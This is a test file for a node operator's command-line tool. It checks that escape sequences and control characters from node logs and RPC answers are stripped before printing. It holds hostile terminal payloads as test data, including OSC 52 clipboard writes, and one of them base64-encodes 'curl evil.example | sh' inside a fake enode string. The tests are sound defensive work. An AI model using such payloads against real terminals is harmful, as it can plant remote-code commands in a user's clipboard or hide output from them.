/**
 * What `npm run node` prints from a node (its log, its recorded enode, its RPC answers) cannot drive the operator's
 * terminal: escape sequences and control characters are removed, newlines and tabs kept.
 */
import { EXIT, runTool, ToolFailure } from '../../cli/cli';
import { withoutControlSequences } from '../../core/operations/terminalText';

describe('text from a node, printed on the terminal', () => {
  it('keeps plain text, newlines and tabs', () => {
    const log = '2024-01-01 12:00:00 | INFO | Imported #1,234 / 0 tx\tÜber ✓\nnext line\n';
    expect(withoutControlSequences(log)).toBe(log);
  });

  it.each([
    ['colours (CSI SGR)', 'a\x1b[31;1mred\x1b[0m b', 'ared b'],
    ['cursor moves and erasures (CSI)', 'line\x1b[2A\x1b[2Khidden?', 'linehidden?'],
    ['a private CSI (ESC [ ? …)', '\x1b[?1049hscreen', 'screen'],
    ['the 8-bit CSI', 'a\x9b2Jb', 'ab'],
    ['a window title (OSC ended by BEL)', '\x1b]0;pwned\x07text', 'text'],
    ['a clipboard write (OSC 52 ended by ST)', '\x1b]52;c;ZWNobyBwd25lZA==\x1b\\text', 'text'],
    ['a hyperlink (OSC 8)', '\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\', 'click'],
    ['a device control string (DCS)', '\x1bP1$qm\x1b\\after', 'after'],
    ['an unterminated OSC, to the end of the text', 'before\x1b]0;never ends', 'before'],
    ['other escapes (ESC c resets the terminal)', 'a\x1bcb\x1b(0c', 'abc'],
    ['carriage returns that overwrite a line', 'healthy\rFAIL   ', 'healthyFAIL   '],
    ['backspaces, bells, NUL and DEL', 'o\bk\x07\x00\x7f!', 'ok!'],
    ['C1 controls', 'a\x85b\x9cc', 'abc'],
  ])('removes %s', (_, text, printed) => {
    expect(withoutControlSequences(text)).toBe(printed);
  });
});

describe("a tool's failure, printed on the terminal by runTool", () => {
  /** What runTool writes on stderr, and the exit code it sets, when the tool's main function throws `error`. */
  async function failureOutput(error: unknown): Promise<{ stderr: string; exitCode: typeof process.exitCode }> {
    const written: string[] = [];
    const write = jest.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => {
      written.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8'));
      return true;
    });
    const before = process.exitCode;
    try {
      runTool(() => {
        throw error;
      });
      await new Promise((resolve) => setTimeout(resolve, 10));
      return { stderr: written.join(''), exitCode: process.exitCode };
    } finally {
      write.mockRestore();
      process.exitCode = before;
    }
  }

  // As a node could send it: an enode answer or a Job's log line that sets the operator's clipboard.
  const hostile = 'enode://ab@\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07203.0.113.10:60606 \x1b[2Kgone';

  it('reaches stderr without ESC or BEL, the message itself kept', async () => {
    const { stderr, exitCode } = await failureOutput(new ToolFailure(`the restored node answers ${hostile}`));
    expect(stderr).toBe('error: the restored node answers enode://ab@203.0.113.10:60606 gone\n');
    expect(stderr).not.toMatch(/[\x1b\x07\x9b]/);
    expect(exitCode).toBe(EXIT.failed);
  });

  it('filters an unexpected error the same way', async () => {
    const { stderr } = await failureOutput(new Error(hostile));
    expect(stderr).toMatch(/^unexpected error: /);
    expect(stderr).not.toMatch(/[\x1b\x07\x9b]/);
  });
});
